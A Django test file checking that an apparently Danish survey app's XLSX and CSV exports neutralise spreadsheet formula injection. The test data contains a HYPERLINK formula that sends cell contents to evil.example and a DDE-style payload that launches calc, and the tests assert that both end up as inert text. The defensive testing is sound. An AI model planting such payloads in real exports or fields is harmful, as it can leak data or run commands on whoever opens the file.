"""Formulas never live in an export (issue 10, point 2): names and instrument texts are written as
neutralised text in the heatmap XLSX and the unit CSV; numbers stay numbers (a decimal comma in CSV)."""

from __future__ import annotations

import csv
import io
import zipfile

from django.test import Client
from django.urls import reverse

from kerne.spreadsheets import FORMULA_START
from kerne.surveys.models import Dimension, Item

EVIL_UNIT = '=HYPERLINK("http://evil.example/?leak="&A1,"Aftenteam")'
EVIL_ROUND = "+Runde|' /C calc'!A0"


def _hr(world) -> Client:
    client = Client()
    client.force_login(world.users["hr"])
    return client


def test_heatmap_xlsx_writes_unit_and_round_names_as_text(world):
    from openpyxl import load_workbook

    world.team_a1x.name = EVIL_UNIT
    world.team_a1x.save(update_fields=["name"])
    world.dept_a1.name = "@Afdeling A1"
    world.dept_a1.save(update_fields=["name"])
    round_ = world.extra["round"]
    round_.name = EVIL_ROUND
    round_.save(update_fields=["name"])
    Dimension.objects.filter(instrument=world.extra["instrument"], key="d1").update(name_da="-Tillid")

    url = reverse("results:heatmap_xlsx", kwargs={"pk": round_.pk}) + "?niveauer=6"
    response = _hr(world).get(url)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula in the file

    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    assert "'" + EVIL_UNIT in texts and "'@Afdeling A1" in texts and "'-Tillid" in texts
    assert texts[0].startswith("'" + EVIL_ROUND)
    row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "'@Afdeling A1")
    assert row[2].data_type == "n" and row[2].value == 11
    assert row[3].data_type == "n" and row[3].value == 77.3 and row[3].number_format == "0.0"


def test_unit_csv_writes_instrument_texts_as_text_and_danish_numbers(world):
    instrument = world.extra["instrument"]
    Dimension.objects.filter(instrument=instrument, key="d0").update(name_da="=1+1")
    Item.objects.filter(instrument=instrument, key="d0-i0").update(text_da='@SUM(A1);"x"')
    Item.objects.filter(instrument=instrument, key="d0-i1").update(text_da="\t-cmd")
    url = reverse("results:unit_csv", kwargs={"pk": world.extra["round"].pk, "unit_pk": world.dept_a1.pk})
    response = _hr(world).get(url)
    assert response.status_code == 200
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))
    texts = {row[1]: row[2] for row in rows[1:]}
    assert texts == {
        "d0": "'=1+1",
        "d0-i0": '\'@SUM(A1);"x"',
        "d0-i1": "'\t-cmd",
        "d1": "Dimension 1",
        "d1-i0": "Udsagn 1.0",
    }
    d0 = next(row for row in rows if row[1] == "d0")
    assert d0[4:6] == ["11", "77,3"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
